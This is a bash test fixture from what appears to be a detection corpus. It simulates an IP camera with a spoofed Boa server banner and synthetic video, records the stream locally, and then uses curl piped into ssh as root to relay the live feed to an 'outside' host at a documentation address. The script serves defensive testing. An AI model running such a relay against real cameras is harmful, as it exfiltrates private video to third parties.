#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,direct-pull half=report tool=curl,ssh camera=10.20.0.13 far=door,out ready=door:80 seconds=46 parts=dns
# door shows pictures one after the other in one answer of HTTP; ffmpeg records that, and curl reads it too and gives it to ssh, which keeps it at a host outside.
# shellcheck disable=SC1091,SC2029,SC2154 # far/ssh.sh, the folder is known here, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = door ]; then exec timeout 80 python3 -c 'import http.server, subprocess
class Face(http.server.BaseHTTPRequestHandler):
    server_version, sys_version = "Boa/0.94.14rc21", ""
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "multipart/x-mixed-replace; boundary=ffmpeg"); self.end_headers()
        p = subprocess.Popen(["ffmpeg", "-nostdin", "-loglevel", "error", "-re", "-f", "lavfi", "-i", "testsrc2=size=320x240:rate=6,noise=alls=40:allf=t", "-q:v", "6", "-f", "mpjpeg", "pipe:1"], stdout=subprocess.PIPE)
        try:
            while d := p.stdout.read1(65536): self.wfile.write(d)
        finally: p.kill()
http.server.ThreadingHTTPServer(("10.20.0.13", 80), Face).serve_forever()' 2>/dev/null; fi
if [ "$1" = out ]; then ssh_keys; exec timeout 80 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
mkdir -p "$LAB/recordings/door"; timeout 44 ffmpeg -nostdin -loglevel error -f mpjpeg -i http://10.20.0.13/mjpg/video.mjpg -c copy -f segment -segment_time 4 "$LAB/recordings/door/%03d.avi" &
sleep 9; timeout 34 curl -sN http://10.20.0.13/mjpg/video.mjpg | ssh "${ssh[@]}" -p 2022 root@203.0.113.66 "cat >$LAB/got"; wait
[ "$(stat -c %s "$LAB/got")" -gt 500000 ]
